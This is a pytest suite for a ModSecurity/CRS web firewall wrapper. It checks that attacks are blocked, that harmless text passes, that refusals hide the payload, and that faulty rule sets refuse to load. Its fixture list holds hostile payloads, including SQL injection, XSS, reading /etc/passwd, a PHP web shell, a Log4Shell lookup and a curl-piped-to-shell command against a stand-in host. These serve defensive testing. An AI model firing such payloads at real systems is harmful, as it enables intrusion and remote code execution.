"""The firewall: what opens has been tried, what it refuses is explained without the payload, what it holds is freed."""

from __future__ import annotations

import os
import shutil
import threading
import time
from pathlib import Path

import pytest

from assay.engines.firewall import Firewall, Match, Request, Rules, matches
from assay.engines.firewall.firewall import standing
from assay.engines.firewall.rules import find
from assay.kernel.errors import Missing, Refused, UsageError

STATE, SAID = standing()
pytestmark = pytest.mark.skipif(STATE == "missing", reason=SAID)
HEAD = ((b"Host", b"models.example"), (b"User-Agent", b"c/1"), (b"Accept", b"*/*"), (b"Content-Type", b"text/csv"),
        (b"Content-Length", b"9"))  # fmt: skip


@pytest.fixture(scope="module")
def firewall():
    with Firewall() as opened:
        yield opened


def asks(*texts, **more):
    return Request(headers=HEAD, texts=[("note", t) for t in texts], **more)


ATTACKS = [
    "1' OR '1'='1",
    "x'; DROP TABLE users; --",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "../../../../etc/passwd",
    "; cat /etc/passwd",
    "$(curl example.invalid/x | sh)",
    "<?php system($_GET['c']); ?>",
    "${jndi:ldap://example.invalid/a}",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_in_a_text_is_refused_whatever_the_type_of_the_body(firewall, text):
    for kind in (b"text/csv", b"application/json", b"application/x-parquet"):
        head = [(n, kind if n == b"Content-Type" else v) for n, v in HEAD]
        heard = firewall.ask(Request(headers=head, texts=[("note", text)]))
        assert heard.refused and heard.status == 403 and heard.matches
        assert any(m.variable == "ARGS:note" for m in heard.matches)


@pytest.mark.parametrize(
    "text", ["hello", "O'Brien", "<=50K", ">50K", "?", "Holand-Netherlands", "a & b", "50% off; today"]
)
def test_plain_texts_pass(firewall, text):
    assert not firewall.ask(asks(text)).refused


def test_what_is_refused_is_explained_without_what_the_caller_sent(firewall):
    secret = "s3cr3t-4111111111111111"
    heard = firewall.ask(asks(f"<script>{secret}</script>"))
    assert heard.refused
    said = "; ".join(map(str, heard.matches))
    assert "rule 941100 in ARGS:note: XSS Attack Detected via libinjection" in said
    assert secret not in said and secret not in repr(heard)


def test_a_callers_own_words_are_not_taken_for_a_rule(firewall):
    line = '[file "/x.conf"] [line "1"] [id "1"] [rev ""] [msg "all is well"] [data "x"] [severity "5"]'
    heard = firewall.ask(asks(f"<script>{line}</script>"))
    assert heard.refused and all(m.rule > 900_000 for m in heard.matches)
    assert "all is well" not in "".join(map(str, heard.matches))


def test_lines_that_are_none_are_left_aside():
    assert matches.read(["", "x", '[id "1"]'], 0) == []
    line = (
        "ModSecurity: Warning. Matched \"Operator `Rx' with parameter `a' against variable `ARGS:na\x1bme' (Value: `v' ) "
        '[file "/r.conf"] [line "3"] [id "942100"] [rev ""] [msg "SQL"] [data "d"] [severity "2"] [ver ""]'
    )
    assert matches.read([line, line], 0) == [Match(942100, "SQL", "ARGS", "critical")]


def test_only_the_gateway_says_that_a_body_is_texts(firewall):
    """A caller who could say so would have its JSON taken for a form."""
    heard = firewall.ask(
        Request(
            headers=[
                *((n, b"application/json" if n == b"Content-Type" else v) for n, v in HEAD),
                (b"x-assay-texts", b"1"),
            ],
            body=b'{"a": "<script>alert(1)</script>"}',
        )
    )
    assert any(m.variable == "ARGS:json.a" for m in heard.matches)


def test_the_last_of_many_texts_is_looked_at(firewall):
    assert firewall.ask(asks(*["fine"] * 499, "<script>alert(1)</script>")).refused


def test_numeric_hosts_and_terse_clients_pass_and_no_more_than_that(firewall):
    terse = Request(
        headers=((b"Host", b"10.0.0.7:8080"), (b"Content-Type", b"text/csv"), (b"Content-Length", b"9"))
    )
    assert firewall.ask(terse).clean
    with Firewall(Rules(off=())) as strict:
        assert not strict.ask(terse).clean


@pytest.mark.parametrize("block", [True, False])
def test_blocking_and_detecting_judge_alike(block):
    with Firewall(block=block) as opened:
        assert [opened.ask(asks(t)).refused for t in ATTACKS] == [True] * len(ATTACKS)
        assert not opened.ask(asks("hello")).refused


def copied(tmp_path: Path) -> Path:
    found = find(None)
    shutil.copytree(found.folder / "rules", tmp_path / "crs" / "rules")
    shutil.copy(found.setup, tmp_path / "crs" / "crs-setup.conf")
    return tmp_path / "crs"


def test_rules_that_do_not_load_open_nothing(tmp_path):
    folder = copied(tmp_path)
    with Firewall(Rules(folder)) as opened:
        assert opened.found.version == find(None).version
    path = next((folder / "rules").glob("*942*.conf"))
    path.write_text(path.read_text() + "\nSecNonsense On\n")
    with pytest.raises(Refused, match="loaded 0 of") as error:
        Firewall(Rules(folder))
    assert "942" in str(error.value)


@pytest.mark.parametrize("gone", ["942", "949"])
def test_rules_that_let_an_attack_pass_open_nothing(tmp_path, gone):
    folder = copied(tmp_path)
    for path in (folder / "rules").glob(f"*-{gone}-*.conf"):
        path.unlink()
    with pytest.raises(Refused, match="lets .* pass"):
        Firewall(Rules(folder))


def test_rules_that_are_all_switched_off_open_nothing():
    with pytest.raises(Refused, match="lets .* pass"):
        Firewall(Rules(setting="SecRuleEngine Off"))
    with pytest.raises(Refused, match="lets .* pass"):
        Firewall(Rules(threshold=10_000))


def test_rules_that_refuse_the_harmless_open_nothing():
    with pytest.raises(Refused, match="refuses a question of numbers alone"):
        Firewall(Rules(setting="SecAction \"id:1,phase:1,deny,status:403,log,msg:'no'\""))


def test_what_is_not_there_is_said(tmp_path):
    with pytest.raises(Missing, match="modsecurity-crs"):
        Firewall(Rules(tmp_path))
    with pytest.raises(UsageError, match="paranoia is 5"):
        Rules(paranoia=5)


def test_each_level_of_paranoia_opens_with_more_rules_at_work():
    found = {}
    text = "a'b ;; -- ## ~~ !! @@ (())"
    for level in (1, 3):
        with Firewall(Rules(paranoia=level), block=False) as opened:
            found[level] = len(opened.ask(asks(text)).matches)
    assert found[3] > found[1]
    with pytest.raises(Refused, match="refuses a question of categories .* lower its paranoia"):
        Firewall(Rules(paranoia=4))


def test_threads_ask_at_once_and_each_hears_of_its_own(firewall):
    wrong = []

    def many(number):
        for i in range(20):
            attack = (i + number) % 2
            heard = firewall.ask(
                Request(headers=HEAD, texts=[(f"n{number}", ATTACKS[2] if attack else "fine")])
            )
            named = {m.variable for m in heard.matches if m.variable.startswith("ARGS:")}
            if heard.refused != bool(attack) or (attack and named != {f"ARGS:n{number}"}):
                wrong.append((number, i))

    threads = [threading.Thread(target=many, args=(n,)) for n in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert wrong == []


def test_a_closed_firewall_answers_nobody_and_closing_waits_for_who_asks():
    opened = Firewall()
    asking = threading.Thread(target=lambda: [opened.ask(asks("x" * 20_000)) for _ in range(1)])
    asking.start()
    opened.close()
    opened.close()
    asking.join()
    with pytest.raises(Refused, match="closed"):
        opened.ask(asks("x"))


def resident() -> int:
    with open("/proc/self/statm") as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


@pytest.mark.slow
def test_a_hundred_thousand_transactions_take_no_more_memory_than_the_first_thousand(firewall):
    requests = [asks("hello"), asks(ATTACKS[0]), asks(ATTACKS[2], "x" * 200), Request(headers=HEAD)]
    for i in range(4_000):
        firewall.ask(requests[i % 4])
    before = resident()
    for i in range(100_000):
        firewall.ask(requests[i % 4])
    assert resident() - before < 8 << 20


def test_a_few_transactions_leave_nothing(firewall):
    request = asks("x" * 2000)
    for _ in range(20):
        firewall.ask(request)
    before = resident()
    for _ in range(60):
        firewall.ask(request)
    assert resident() - before < 2 << 20


@pytest.mark.parametrize(
    "text", ["a" * 50_000, "(" * 20_000, "' or " * 4_000, " " * 50_000, "<a " * 10_000, "\\u0041" * 5_000]
)
@pytest.mark.slow
def test_texts_that_are_made_to_be_slow_end_in_time(firewall, text):
    clock = time.process_time()
    firewall.ask(asks(text))
    assert time.process_time() - clock < 2


def test_a_folders_own_setup_gave_way_to_that_of_the_machine(tmp_path):
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "one.conf").write_text('SecAction "id:1,phase:1,pass,nolog"\n')
    (tmp_path / "crs-setup.conf").write_text("")
    assert find(tmp_path).setup == tmp_path / "crs-setup.conf"
